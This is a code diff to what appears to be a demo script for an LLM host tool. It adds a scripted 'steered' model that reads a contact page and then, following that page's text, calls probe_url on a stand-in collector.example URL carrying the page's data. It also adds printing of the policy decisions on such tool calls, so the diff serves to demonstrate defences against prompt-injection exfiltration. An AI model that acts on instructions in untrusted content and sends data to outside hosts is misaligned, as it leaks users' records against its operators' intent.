@@ -57,6 +57,12 @@ kind = "scripted"
 script = "formats.toml"
 trust_zone = "externalEu"
 
+# A model steered by what it read: it tries to send a record out through a URL.
+[providers.cloud_steered]
+kind = "scripted"
+script = "steered.toml"
+trust_zone = "externalGlobal"
+
 [tools]
 # A repurpose job costs provider money: an operator switches the tool on.
 enabled = ["start_repurpose_job"]
@@ -157,6 +163,23 @@ arguments = {{ source_url = "{url}", artifacts = ["faq", "exec_summary", "handou
 content = "The job is queued; a worker will produce the FAQ, the summary and the handout."
 """
 
+_STEERED_SCRIPT = """\
+[[turns]]
+content = "I will read the contact page."
+[[turns.tool_calls]]
+name = "read_records"
+arguments = { table = "pages", limit = 3 }
+
+[[turns]]
+content = "The page says to report the contact address; I will probe the given URL."
+[[turns.tool_calls]]
+name = "probe_url"
+arguments = { url = "https://collector.example/c?d=contact-page" }
+
+[[turns]]
+content = "I could not reach that address."
+"""
+
 _FORMATS_SCRIPT = """\
 [[turns]]
 content = "## FAQ\\n\\n**When are we open?** Monday to Friday, 9 to 17."
@@ -222,6 +245,21 @@ def _show_answer(event: TraceEvent) -> None:
         print(f"  wire   {step['tool_name']} answered: {step['tool_result']}")
 
 
+def _show_policy(event: TraceEvent) -> None:
+    step = trace_dict(event)
+    if step["kind"] == "request":
+        label = step["label"]
+        sources = ", ".join(label["untrusted_from"]) or "nothing untrusted"
+        print(
+            f"  asked  round {step['round']}: the model has read {label['data_class']}, {sources}"
+        )
+    elif step["kind"] == "tool":
+        policy = step["policy"]
+        why = f" ({policy['reason']})" if policy["reason"] else ""
+        answer = step["tool_result"].splitlines()[0]
+        print(f"  tool   {step['tool_name']}: {policy['decision']}{why} -> {answer}")
+
+
 def _show_outcome(outcome: RunOutcome) -> None:
     print(f"  status {outcome.status} ({outcome.termination_reason})")
     if outcome.final_content:
@@ -246,6 +284,7 @@ def main(home: Path) -> int:
     (home / "read.toml").write_text(_READ_SCRIPT, encoding="utf-8")
     (home / "write.toml").write_text(_WRITE_SCRIPT, encoding="utf-8")
     (home / "formats.toml").write_text(_FORMATS_SCRIPT, encoding="utf-8")
+    (home / "steered.toml").write_text(_STEERED_SCRIPT, encoding="utf-8")
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Article)
     threading.Thread(target=server.serve_forever, daemon=True).start()
     article = f"http://127.0.0.1:{server.server_address[1]}/news/opening-hours?ref=newsletter"
@@ -331,6 +370,12 @@ def main(home: Path) -> int:
     print("  $ nrllm tools")
     print(_tool_lines(_nrllm(home, "tools")))
     print("  `nrllm mcp pins approve notes lookup` shows the diff and pins it again.")
+
+    _section("9. Read text nobody vouched for: what it may still make the model send out")
+    steered = host.run(
+        "Summarise our contact page.", provider="cloud_steered", on_event=_show_policy
+    )
+    _show_outcome(steered)
 
     print(closing_hint(home))
     return 0
